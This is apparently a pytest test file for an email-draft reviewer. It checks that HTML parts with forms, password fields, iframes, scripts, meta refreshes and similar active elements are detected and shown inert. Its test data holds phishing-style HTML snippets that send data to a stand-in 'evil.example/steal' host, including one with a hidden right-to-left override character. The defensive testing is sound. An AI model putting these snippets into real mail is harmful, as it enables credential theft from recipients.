"""What an HTML part does besides showing words is told with where it leads: whatever is not known to do nothing."""

import pytest

from reviewer.accounts.models import User
from reviewer.desk.mail.html_part import inert, visible
from reviewer.desk.mail.letter import ACTS, Letter
from reviewer.drafts.content import Content
from reviewer.html.acts import Act, acts
from tests.comparison.steps import steps
from tests.desk_support import signed_in, words
from tests.support.rows import make_draft

TEXT = "Please confirm your password."
EVIL = "https://evil.example/steal"
ACTING = {
    f'<form action="{EVIL}" method=post></form>': ("a form", EVIL),
    "<form></form>": ("a form", ""),
    "<input>": ("a field", ""),
    "<input type=PASSWORD>": ("a field for a password", ""),
    "<input type=checkbox>": ("a field", ""),
    "<input type=made-up disabled>": ("a field", ""),
    f'<input type=image formaction="{EVIL}">': ("a button", EVIL),
    f'<button formaction="{EVIL}"></button>': ("a button", EVIL),
    "<select></select>": ("a field", ""),
    "<textarea></textarea>": ("a field", ""),
    f'<base href="{EVIL}">': ("an address that its links begin with", EVIL),
    f'<meta http-equiv=Refresh content="0;url={EVIL}">': ("another page that opens by itself", f"0;url={EVIL}"),
    "<meta http-equiv=set-cookie content=a>": ("<meta set-cookie>", "a"),
    f'<iframe src="{EVIL}"></iframe>': ("<iframe>", EVIL),
    f'<object data="{EVIL}"></object>': ("<object>", EVIL),
    f'<frameset><frame src="{EVIL}"></frameset>': ("<frame>", EVIL),
    f'<embed src="{EVIL}">': ("<embed>", EVIL),
    f'<script src="{EVIL}"></script>': ("a script", EVIL),
    "<p ONCLICK = 'x()'></p>": ("a script", ""),
    "<o:p onclick=x></o:p>": ("a script", ""),
    f'<script type="application/ld+json" src="{EVIL}"></script>': ("a script", EVIL),
    "<script type=module></script>": ("a script", ""),
    "<keygen>": ("<keygen>", ""),
    "<isindex>": ("<isindex>", ""),
    "<svg><animate href=#a></svg>": ("<animate>", "#a"),
    "<unheard>": ("<unheard>", ""),
}
QUIET = (
    "<base target=_blank>",
    "<meta charset=utf-8><meta name=viewport content='width=device-width'>",
    "<meta http-equiv=Content-Type content='text/html'><meta http-equiv=X-UA-Compatible content='IE=edge'>",
    "<meta http-equiv=Cache-Control content=no-cache><meta http-equiv=Pragma content=no-cache>",
    "<meta http-equiv=Expires content=0><meta http-equiv=Content-Security-Policy content=\"default-src 'none'\">",
    '<script type=\'application/ld+json\'>{"@type": "EmailMessage"}</script>',
    "<progress value=3 max=9></progress><meter value=.3></meter>",
    "<ul><li><input type=checkbox disabled></ul>",
    "<input type=hidden value=x>",
    "<o:p></o:p><x-y></x-y><v:shape></v:shape>",
    "<p title='turn it on = good' data-on=1 cite='?one=1'></p>",
    "<svg><title> </title><g><path d=''/></g></svg>",
    "<picture><source srcset=a.png><img alt='' src=a.png></picture><details open><summary></summary></details>",
    "<center><font color=red><kbd><ins><label><abbr><fieldset><legend></legend></fieldset></abbr></label></ins></kbd>",
    "<table><caption></caption><colgroup><col></colgroup><tr><td><a href='#x'></a></table><hr><wbr><map><area></map>",
)


def odds(html: str) -> list[str]:
    return [odd.word for odd in Letter(Content("S", ("all@x.example",), text=TEXT, html=html)).odds]


@pytest.mark.parametrize(("html", "told"), ACTING.items(), ids=range(len(ACTING)))
def test_what_acts_is_told_and_stands_in_the_html_tab(html: str, told: tuple[str, str]) -> None:
    mail = f"<p>{TEXT}</p>{html}"
    assert ACTS.word in odds(mail)
    assert told in acts(mail)
    shown = f"[{': '.join(filter(None, told))}]".replace("<", "&lt;").replace(">", "&gt;")
    assert f'<span class="not-loaded">{shown}</span>' in inert(mail)


@pytest.mark.parametrize("html", QUIET)
def test_what_does_nothing_is_not(html: str) -> None:
    assert odds(f"<p>{TEXT}</p>{html}") == []
    assert "not-loaded" not in inert(html.replace("<img alt='' src=a.png>", ""))


def test_a_mail_that_is_read_in_two_ways_is_told() -> None:
    assert ACTS.word in odds(f"<p>{TEXT}</p><option><style><form></style></option>")


def test_data_that_adds_a_button_is_told() -> None:
    for name in ("potentialAction", "potential\\u0041ction"):
        data = f'{{"@type": "EmailMessage", "{name}": {{"@type": "ViewAction", "target": "{EVIL}"}}}}'
        html = f"<p>{TEXT}</p><script type=application/ld+json>{data}</script>"
        assert odds(html) == [ACTS.word]
        assert acts(html) == [Act("a button that mail programs add")]


def test_a_part_of_a_picture_and_a_shape_lead_somewhere_in_the_html_tab() -> None:
    for html in (f"<map><area alt=Pay href='{EVIL}'></map>", f"<v:rect href='{EVIL}'></v:rect>"):
        assert f'<span class="not-loaded">[leads to {EVIL}]</span>' in inert(html)


def test_the_mail_cannot_write_such_a_note() -> None:
    assert inert("<span class=not-loaded>[a form]</span>") == "<span>[a form]</span>"


def test_a_button_without_words_has_those_of_browsers() -> None:
    assert visible("<input type=submit><input type=Reset><input type=submit value=''>").split() == ["Submit", "Reset"]


@pytest.mark.django_db
def test_the_page_says_what_the_html_part_does(lead: User) -> None:
    html = f"<form action='{EVIL}\u202e'><p>{TEXT}</p><input type=password name=p></form>"
    draft = make_draft(Content("It is over", ("all@x.example",), text=TEXT, html=html), audience="customer")
    client = signed_in(lead)
    said = words(client.get(f"/drafts/{draft.pk}/"))
    assert "The HTML part does more than show words and pictures." in said
    assert f"It has a form: {EVIL} \u27e8U+202E\u27e9 It has a field for a password" in said
    assert "More than words" in said
    assert "[a form: https://evil.example/steal" in client.get(f"/drafts/{draft.pk}/mail/1/").content.decode()


@pytest.mark.parametrize("unit", ["<form>", "<p on", "<p on = ", "<input onx>", "<b>x", "<area href=x>"])
def test_work_grows_with_the_length(unit: str) -> None:
    assert steps(lambda html: acts(html), unit * 1_200) < 6 * steps(lambda html: acts(html), unit * 300) + 3_000
